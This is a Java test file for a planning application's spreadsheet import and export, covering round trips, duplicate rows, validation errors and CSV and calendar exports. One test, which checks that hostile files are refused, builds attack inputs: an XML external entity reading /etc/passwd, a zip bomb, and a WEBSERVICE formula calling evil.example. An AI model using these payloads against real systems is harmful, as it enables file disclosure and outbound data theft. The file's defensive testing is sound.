package org.focalnet.plan.sheet;

import static org.assertj.core.api.Assertions.assertThat;
import static org.focalnet.plan.Planned.TODAY;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.focalnet.Browserless;
import org.focalnet.Program;
import org.focalnet.SignIns;
import org.focalnet.audience.MemberId;
import org.focalnet.audience.Role;
import org.focalnet.file.Courier;
import org.focalnet.plan.Planned;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;

class SheetImportTest {

    private final MemberId estavia = Program.seat();
    private final UUID account = SignIns.account(estavia, Role.FOCAL_POINT, "Leila Test");
    private final Browserless leila = new Browserless().signInAs(account);
    private final Courier courier = new Courier(account);

    private record Came(int status, String text) {}

    private Came bring(String plan, String act, byte[] file) {
        var answer = courier.form(plan + "/import", Map.of("act", act), "table", file);
        return new Came(answer.statusCode(), Jsoup.parse(Courier.text(answer)).text());
    }

    private Came bring(String plan, String text) {
        return bring(plan, "bring", text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void aTableIsBroughtInWholeAndComesOutAsItWent() throws IOException {
        String plan = Planned.plan(leila, "Plan of tables");
        String rows = "Number;Objective;Action;Lead;Begins;Due;Status;Needs;Partners\n"
                + "7;Coordination;Name liaisons;Ministry of Interior;" + TODAY.minusDays(9) + ";" + TODAY
                + ";Done;;A; \n"
                + "8;Coordination;Meet twice;;" + TODAY.plusDays(1) + ";" + TODAY.plusDays(30) + ";on track;7;\n";
        assertThat(bring(plan, "check", rows.getBytes(StandardCharsets.UTF_8)).text())
                .contains("It would add 2 actions");
        assertThat(leila.get(plan + "/actions").text()).contains("No action yet");
        Came came = bring(plan, rows);
        assertThat(came.status()).as(came.text()).isEqualTo(303);
        assertThat(leila.get(plan).text()).contains("Coordination", "Name liaisons", "Meet twice", "Done");
        byte[] book = leila.file(plan + "/actions.xlsx");
        try (var read = new XSSFWorkbook(new java.io.ByteArrayInputStream(book))) {
            assertThat(read.getSheetAt(0).getRow(3).getCell(3).getStringCellValue())
                    .isEqualTo("Meet twice");
        }
        Came again = bring(plan, "bring", book);
        assertThat(again.status()).as(again.text()).isEqualTo(303);
        assertThat(leila.get(plan + "/actions").text()).contains("2 actions");
        assertThat(bring(plan, "bring", leila.file(plan + "/actions.csv")).status())
                .isEqualTo(303);
        assertThat(leila.get(plan + "/actions").text()).contains("2 actions");
    }

    private Came bring(String plan, Map<String, String> fields, String text) {
        var answer = courier.form(plan + "/import", fields, "table", text.getBytes(StandardCharsets.UTF_8));
        return new Came(answer.statusCode(), Jsoup.parse(Courier.text(answer)).text());
    }

    @Test
    void theSameTableBroughtInTwiceAddsNothingTwiceAndThePreviewNamesWhatIsThere() {
        String plan = Planned.plan(leila, "Plan of doubles");
        String rows = "Number;Objective;Action;Needs\n2;Coordination;Name liaisons;\n1;Coordination;Meet twice;2\n"
                + ";Training;Train judges;\n";
        assertThat(bring(plan, rows).status()).isEqualTo(303);
        Came checked = bring(plan, "check", rows.getBytes(StandardCharsets.UTF_8));
        assertThat(checked.text())
                .contains(
                        "It would add 0 actions",
                        "3 rows are about actions that are in the plan already",
                        "Row 2: action 1, “Name liaisons”, has the same title under the same objective. It stays as it is",
                        "Row 3: action 2, “Meet twice”",
                        "Row 4: action 3, “Train judges”");
        assertThat(bring(plan, rows).status()).isEqualTo(303);
        assertThat(bring(
                                plan,
                                rows.replace("Coordination", " coordination")
                                        .replace("Train judges;", "TRAIN JUDGES;\n;Training;Train police;"))
                        .status())
                .isEqualTo(303);
        assertThat(leila.get(plan + "/actions").text())
                .contains("4 actions", "Train police")
                .doesNotContain("TRAIN JUDGES");
        assertThat(leila.get(plan).document().select("h2,h3").eachText())
                .filteredOn(head -> head.contains("Training"))
                .hasSize(1);
        Came renamed = bring(
                plan,
                "check",
                "Number;Objective;Action\n1;Coordination;Name two liaisons\n".getBytes(StandardCharsets.UTF_8));
        assertThat(renamed.text()).contains("Row 2 changes action 1, “Name liaisons”");
    }

    @Test
    void theSameFormSentTwiceIsOneWhereRowsAreWantedOnceMoreToo() {
        String plan = Planned.plan(leila, "Plan of once more");
        String rows = "Objective;Action\nTraining;Train judges\nTraining;Train police\n";
        assertThat(bring(plan, rows).status()).isEqualTo(303);
        String form =
                leila.get(plan + "/files").document().select("input[name=form]").attr("value");
        var again = Map.of("act", "check", "again", "on", "form", form);
        assertThat(bring(plan, again, rows).text())
                .contains("It would add 2 actions", "Row 2 is added once more beside action 1");
        var fields = Map.of("act", "bring", "again", "on", "form", form);
        assertThat(bring(plan, fields, rows).status()).isEqualTo(303);
        assertThat(bring(plan, fields, rows).status()).isEqualTo(303);
        assertThat(leila.get(plan + "/actions").text()).contains("4 actions");
    }

    @Test
    void eachFaultNamesItsRowAndColumnAndNothingIsWritten() {
        String plan = Planned.plan(leila, "Plan of faults");
        Came came = bring(
                plan,
                "Objective,Action,Begins,Due,Status,Cost\n"
                        + "Good,A good action,,,,\n"
                        + "Bad,Too early,1999-05-01,,,\n"
                        + "Bad,Turned round," + TODAY.plusDays(9) + "," + TODAY + ",,\n"
                        + "Bad,=1+1,,,Finished,Huge\n"
                        + ",No objective,31.2.2027,,,\n");
        assertThat(came.status()).isEqualTo(422);
        assertThat(came.text())
                .contains(
                        "Row 3, Begins: The day lies before the plan begins",
                        "Row 4, Due: The action cannot be due before it begins",
                        "Row 5, Action: begins with a sign",
                        "Row 5, Status: Write one of these",
                        "Row 5, Cost: Write one of these",
                        "Row 6, Objective:",
                        "Row 6, Begins: Write the day as");
        assertThat(leila.get(plan + "/actions").text()).contains("No action yet");
        assertThat(bring(plan, "Number,Objective,Action,Needs\n1,Objective,One more,2\n2,Objective,Another one,1\n")
                        .text())
                .contains("closes a circle");
        assertThat(bring(plan, "Objective,Action,Needs\nObjective,One more,99\n")
                        .text())
                .contains("needs action 99");
        assertThat(leila.get(plan + "/actions").text()).contains("No action yet");
    }

    @Test
    void hostileFilesAreRefused() throws IOException {
        String plan = Planned.plan(leila, "Plan of bombs");
        assertThat(bring(plan, "").status()).isEqualTo(422);
        assertThat(bring(plan, "nonsense\u0000").status()).isEqualTo(422);
        assertThat(bring(plan, "bring", new byte[] {'P', 'K', 3, 4, 9, 9, 9}).status())
                .isEqualTo(422);
        assertThat(bring(plan, "bring", new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 1})
                        .status())
                .isEqualTo(422);
        assertThat(bring(plan, "bring", zip("xl/worksheets/sheet1.xml", new byte[40 * 1024 * 1024]))
                        .text())
                .contains("far larger than it seems");
        assertThat(bring(plan, "bring", zip("xl/externalLinks/externalLink1.xml", new byte[9]))
                        .text())
                .contains("links to other files");
        byte[] entity =
                ("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><worksheet><sheetData>"
                                + "<row r=\"1\"><c t=\"inlineStr\"><is><t>&x;</t></is></c></row></sheetData></worksheet>")
                        .getBytes(StandardCharsets.UTF_8);
        Came came = bring(plan, "bring", zip("xl/worksheets/sheet1.xml", entity));
        assertThat(came.status()).isEqualTo(422);
        assertThat(came.text()).doesNotContain("root:");
        try (var book = new XSSFWorkbook();
                var out = new ByteArrayOutputStream()) {
            var sheet = book.createSheet();
            var head = sheet.createRow(0);
            head.createCell(0).setCellValue("Objective");
            head.createCell(1).setCellValue("Action");
            var row = sheet.createRow(1);
            row.createCell(0).setCellValue("Objective");
            row.createCell(1).setCellFormula("WEBSERVICE(\"https://evil.example\")");
            book.write(out);
            assertThat(bring(plan, "bring", out.toByteArray()).text()).contains("Row 2, Action: holds a formula");
        }
        assertThat(leila.get(plan + "/actions").text()).contains("No action yet");
    }

    @Test
    void dueDaysAndTheColumnsOfImpactOssComeOut() {
        String plan = Planned.plan(leila, "Plan of exports");
        String action = Planned.action(
                leila,
                plan,
                "Objective",
                "=Due soon",
                "due",
                TODAY.plusDays(9).toString(),
                "source",
                "GAP",
                "source_title",
                "A gap");
        leila.post(action + "/indicators", "indicator", "Offices", "baseline", "none", "target", "eight");
        String calendar = new String(leila.file(plan + "/due.ics"), StandardCharsets.UTF_8);
        assertThat(calendar)
                .contains(
                        "BEGIN:VEVENT",
                        "Due: =Due soon",
                        "DTSTART;VALUE=DATE:" + TODAY.plusDays(9).toString().replace("-", ""));
        assertThat(leila.get(plan + "/impact/actions.csv").body())
                .contains("reference [database:reference]", "[rel:recommendation-reference]", "A1,'=Due soon", "S1");
        assertThat(leila.get(plan + "/impact/recommendations.csv").body()).contains("S1,A gap");
        assertThat(leila.get(plan + "/impact/indicators.csv").body()).contains("I1,Offices", "A1");
        assertThat(leila.get(plan + "/impact/other.csv").status()).isEqualTo(404);
    }

    private static byte[] zip(String name, byte[] content) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
            zip.closeEntry();
        }
        return out.toByteArray();
    }
}
